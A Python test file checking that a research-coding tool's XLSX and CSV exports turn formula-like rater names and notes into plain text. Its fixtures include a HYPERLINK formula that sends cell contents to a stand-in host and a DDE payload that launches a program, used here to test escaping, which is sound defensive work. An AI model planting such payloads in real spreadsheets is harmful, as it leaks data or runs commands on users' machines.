"""Exports never hand a spreadsheet a formula: a rater named like one, notes and titles starting
with =, +, - or @ come out as text, in XLSX and in CSV, written by the command line."""

from __future__ import annotations

import csv
import subprocess
import sys

from helpers import IND, make_session
from openpyxl import load_workbook

from rupture_coder.services.coding import AddCode, CodeSpec
from rupture_coder.services.project import AddRater

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
NOTES = ["=1+1", "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3", "http://example.invalid/", "plain"]


def test_formula_like_text_is_exported_as_text(service, tmp_path):
    session, utterances, _segments, _people = make_session(service)
    rater = service.run(AddRater(HYPERLINK)).result
    for utterance, note in zip(utterances, NOTES, strict=False):
        service.run(AddCode(session.id, rater.id, IND, CodeSpec("W2", utterance.id, note=note)))
    project = service.project.path
    service.project.close()
    for fmt in ("xlsx", "csv"):
        run = subprocess.run([sys.executable, "-m", "rupture_coder", "export", "--project", str(project),
                              "--format", fmt, "--out", str(tmp_path / fmt)], capture_output=True, text=True,
                             timeout=300)  # fmt: skip
        assert run.returncode == 0, run.stderr

    book = load_workbook(tmp_path / "xlsx" / "events.xlsx")  # formulas kept as formulas if any
    sheet = book["data"]
    header = [c.value for c in sheet[1]]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # not one formula
    assert not [c.coordinate for c in cells if c.hyperlink is not None]  # not one link
    rows = [
        dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)
    ]
    assert {r["rater"] for r in rows} == {HYPERLINK}  # the exact text, as a text cell
    assert sorted(r["note"] for r in rows) == sorted(NOTES)
    assert all(isinstance(r["start_s"], int | float) for r in rows)  # numbers stay numbers

    with open(tmp_path / "csv" / "events.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert {r["rater"] for r in rows} == {"'" + HYPERLINK}
    escaped = {"=1+1", "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3"}
    assert sorted(r["note"] for r in rows) == sorted(
        ("'" + n) if n in escaped else n for n in NOTES
    )
    assert all(not r["start_s"].startswith("'") for r in rows)
